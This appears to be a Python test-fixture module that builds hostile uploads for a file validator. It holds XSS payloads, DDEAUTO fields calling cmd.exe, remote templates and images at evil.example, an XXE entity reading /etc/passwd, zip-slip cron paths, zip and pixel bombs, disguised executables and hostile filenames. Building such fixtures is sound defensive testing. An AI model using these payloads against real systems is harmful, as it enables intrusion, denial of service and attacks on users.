"""Two hundred files that nobody should have sent, made here: wrong, broken, doubled, too large, or badly named."""

import io
import random
import struct
import zipfile
import zlib

from PIL import Image

from tests.helpers import factories

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SCRIPT = b"<script>alert(document.cookie)</script>"
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def zipped(parts: dict[str, bytes | str], method=zipfile.ZIP_DEFLATED) -> bytes:
    """A zip file of these parts."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return made.getvalue()


def docx(extra: dict | None = None, main: str = WORD_MAIN) -> bytes:
    """A small Word document."""
    types = f'<Types><Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
    return zipped({"[Content_Types].xml": types, "word/document.xml": "<w>Udtalelse</w>", **(extra or {})})


def docx_twice(name: str) -> bytes:
    """A Word document with two parts of one name."""
    made = io.BytesIO(docx())
    with zipfile.ZipFile(made, "a") as archive:
        archive.writestr(name, "<w>En anden</w>")
    return made.getvalue()


WORD_SPACE = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def _word(inside: str) -> str:
    """A part of a Word document."""
    return f'<w:document xmlns:w="{WORD_SPACE}"><w:body>Udtalelse{inside}</w:body></w:document>'


def _field(*pieces: str) -> str:
    """A field of Word, its code in as many runs; a piece that is a field lies inside it."""
    code = "".join(
        piece if piece.startswith("<") else f"<w:instrText>{piece}</w:instrText>" for piece in pieces
    )
    ends = [f'<w:fldChar w:fldCharType="{kind}"/>' for kind in ("begin", "separate", "end")]
    return f"{ends[0]}{code}{ends[1]}1{ends[2]}"


def _outside(kind: str, mode: str = "External") -> str:
    """The links of a part of a Word document: one to elsewhere."""
    return (
        f'<Relationships><Relationship TargetMode="{mode}" Type="http://x/relationships/{kind}"'
        ' Target="http://evil.example/x"/></Relationships>'
    )


def harmless() -> dict[str, bytes]:
    """What looks like fetching and is not: a link to be clicked, the page's number, a table of contents."""
    links = {"word/_rels/document.xml.rels": _outside("hyperlink")}
    fields = _field("PAGE") + _field(' TOC \\o "1-3" ', _field("PAGEREF _1"))
    fields += _field('HYPERLINK "http://kommune.example"')
    return {
        "link.docx": docx(links | {"word/document.xml": _word(fields)}),
        "link.odt": odt(
            {"content.xml": '<o><a href="http://kommune.example"/><image href="Pictures/1.png"/></o>'}
        ),
    }


def odt(extra: dict | None = None, manifest: str = "<manifest/>") -> bytes:
    """A small OpenDocument text."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text", zipfile.ZIP_STORED)
        for name, content in {
            "content.xml": "<o/>",
            "META-INF/manifest.xml": manifest,
            **(extra or {}),
        }.items():
            archive.writestr(name, content)
    return made.getvalue()


def picture(format_name: str, size=(80, 60), **how) -> bytes:
    """A picture; pass ``exif`` for what a camera writes."""
    if format_name == "HEIF":
        import pillow_heif

        pillow_heif.register_heif_opener()
    made = io.BytesIO()
    Image.new("RGB", size, "teal").save(made, format_name, **how)
    return made.getvalue()


def photograph() -> bytes:
    """A JPEG with the place where it was taken, and the name of the camera's owner."""
    exif = Image.Exif()
    exif[0x010F] = "KAMERAETS EJER"
    exif[0x0112] = 6  # lies on its side
    exif.get_ifd(0x8825)[1] = "N"
    return picture("JPEG", size=(90, 40), exif=exif)


def flood(width=60_000, height=60_000) -> bytes:
    """A PNG of a few hundred bytes that says it has billions of pixels."""

    def chunk(kind, content):
        return (
            struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
        )

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = zlib.compress(b"\0" * 1000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def bomb() -> bytes:
    """A Word document with one part of 60 MB of blanks."""
    return docx({"word/media/blank.bin": b"\0" * (60 * 1024 * 1024)})


def lying_bomb() -> bytes:
    """… whose table of contents says that the part is small."""
    data = bytearray(docx({"word/media/blank.bin": b"\0" * (4 * 1024 * 1024)}))
    real, small = struct.pack("<I", 4 * 1024 * 1024), struct.pack("<I", 10)
    return bytes(data.replace(real, small))


def crowd() -> bytes:
    """A Word document of 1,500 parts."""
    return docx({f"word/part{n}.xml": "x" for n in range(1_500)})


def nested() -> bytes:
    """Zip files in zip files, like the well-known 42.zip."""
    inner = zipped({"blank": b"\0" * (1 << 20)})
    return zipped({f"lib{n}.zip": inner for n in range(16)})


def good() -> dict[str, bytes]:
    """One of each that may come in."""
    return {
        "udtalelse.pdf": factories.pdf("Side et", "Side to"),
        "brev.docx": docx(),
        "brev.odt": odt(),
        "billede.png": picture("PNG"),
        "billede.jpg": photograph(),
        "billede.heic": picture("HEIF"),
    }


def bad() -> dict[str, bytes]:
    """What must be refused, whatever it is called."""
    files = {
        "tom.pdf": b"",
        "hilsen.txt": "Kære Sigrid".encode(),
        "side.html": b"<!doctype html>" + SCRIPT,
        "tegning.svg": b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>",
        "tegning.svg.png": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "side.pdf": b"<!doctype html>" + SCRIPT,
        "brev.docm": docx(main=WORD_MAIN.replace("document.main", "document.macroEnabled.main")),
        "brev.docx": docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        "activex.docx": docx({"word/activeX/activeX1.xml": "<x/>"}),
        "skabelon.docx": docx(
            {
                "word/_rels/settings.xml.rels": '<Relationships><Relationship TargetMode="External"'
                ' Type="http://x/attachedTemplate" Target="http://evil.example/x.dotm"/></Relationships>'
            }
        ),
        "billede udefra.docx": docx({"word/_rels/document.xml.rels": _outside("image")}),
        "billede udefra i sidehoved.docx": docx({"word/_rels/header1.xml.rels": _outside("image")}),
        "skrift udefra.docx": docx({"word/_rels/fontTable.xml.rels": _outside("font")}),
        "stykke.docx": docx({"word/_rels/document.xml.rels": _outside("aFChunk", mode="Internal")}),
        "stykke uden rel.docx": docx({"word/document.xml": _word('<w:altChunk id="rId1"/>')}),
        "dde.docx": docx(
            {"word/document.xml": _word(_field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"))}
        ),
        "dde i stykker.docx": docx({"word/document.xml": _word(_field(" D", "DE", "AUTO x"))}),
        "dde lille.docx": docx({"word/document.xml": _word(_field("ddeauto x"))}),
        "dde simpel.docx": docx({"word/footer1.xml": _word('<w:fldSimple w:instr="DDE x y"/>')}),
        "dde sat sammen.docx": docx({"word/document.xml": _word(_field(_field("QUOTE 68 68 69")))}),
        "billedfelt.docx": docx(
            {"word/document.xml": _word(_field('INCLUDEPICTURE "http://evil.example/x.png"'))}
        ),
        "dde.odt": odt({"content.xml": "<o><dde-connection-decl/></o>"}),
        "billede udefra.odt": odt({"content.xml": '<o><image href="http://evil.example/x.png"/></o>'}),
        "billede fra delt drev.odt": odt({"styles.xml": '<o><image href="//evil.example/x.png"/></o>'}),
        "makro.odt": odt({"Basic/Standard/Module1.xml": "<x/>"}),
        "laast.odt": odt(manifest='<manifest><encryption-data x="1"/></manifest>'),
        "ark.xlsx": zipped({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<x/>"}),
        "pakke.zip": zipped({"a.txt": "a"}),
        "jar.docx": zipped({"META-INF/MANIFEST.MF": "Main-Class: X", "X.class": "\xca\xfe"}),
        "op.docx": docx({"../../etc/cron.d/x": "* * * * * root true"}),
        "rod.docx": docx({"/etc/passwd": "root"}),
        "entitet.docx": zipped(
            {
                "[Content_Types].xml": f'<Types><Override ContentType="{WORD_MAIN}"/></Types>',
                "word/document.xml": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
            }
        ),
        "foran.docx": SCRIPT + docx(),
        "foran.pdf": SCRIPT + factories.pdf(),
        "foran.png": b"GIF89a" + picture("PNG"),
        "bombe.docx": bomb(),
        "loegn.docx": lying_bomb(),
        "maengde.docx": crowd(),
        "42.zip": nested(),
        "flod.png": flood(),
        "program.exe": b"MZ\x90\x00" + b"\0" * 200,
        "program.pdf.exe": b"MZ\x90\x00" + b"\0" * 200,
        "gif.png": picture("GIF"),
        "webp.jpg": picture("WEBP"),
        "bmp.jpg": picture("BMP"),
        "eicar.pdf": EICAR,
        "nul.pdf": b"\0" * 5_000,
        "kun hoved.pdf": b"%PDF-1.7\n",
        "kun hoved.png": b"\x89PNG\r\n\x1a\n",
        "kun hoved.jpg": b"\xff\xd8\xff\xe0\x00\x10JFIF",
        "kun hoved.docx": b"PK\x03\x04",
        "gammel.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        "brev.rtf": rb"{\rtf1 hej}",
        "film.heic": b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\0" * 100,
    }
    dice = random.Random(9)
    for name, data in good().items():
        for part in (4, 12, 40):
            files[f"afkortet {part} {name}"] = data[: len(data) * part // 100]
    for number in range(40):
        start = dice.choice((b"%PDF-1.7\n", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff\xe0", b"PK\x03\x04", b""))
        files[f"støj {number}.pdf"] = start + dice.randbytes(dice.randint(20, 4_000))
    return files


def odd() -> dict[str, bytes]:
    """Good files with a few bytes changed, or with something hung on: kept or refused, but never more than bytes."""
    files, dice = {}, random.Random(25)
    for name, data in good().items():
        files[f"bagefter {name}"] = data + b"\n" + SCRIPT
        files[f"zip bagefter {name}"] = data + zipped({"x.html": SCRIPT})
        for number in range(15):
            changed = bytearray(data)
            for _hit in range(dice.randint(1, 12)):
                changed[dice.randrange(len(changed))] = dice.randrange(256)
            files[f"ændret {number} {name}"] = bytes(changed)
    files["javascript.pdf"] = factories.pdf("Hej").replace(
        b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>"
    )
    return files


NAMES = (
    "../../../../etc/passwd.pdf",
    "..\\..\\windows\\system32.pdf",
    "/etc/shadow",
    "C:\\fakepath\\sag.pdf",
    "a\x00b.pdf.exe",
    "\u202efdp.exe",  # reads exe.pdf from right to left
    "\u200f\u200e.pdf",
    "😀🎉 klassefoto 👩‍🎓.pdf",
    "æøå ÆØÅ A\u030age.pdf",
    "x" * 5_000 + ".pdf",
    "%2e%2e%2f.pdf",
    "<script>alert(1)</script>.pdf",
    '"; filename="evil.html',
    "linje\r\nContent-Type: text/html\r\n\r\n.pdf",
    ".pdf",
    "...",
    " ",
    "CON.pdf",
    "=HYPERLINK(1).pdf",
    "{{ 7*7 }}{% debug %}.pdf",
    "uden-endelse",
    "udtalelse.pdf.html",
    "udtalelse.svg",
    "\ud7ff\ue000.pdf",
)
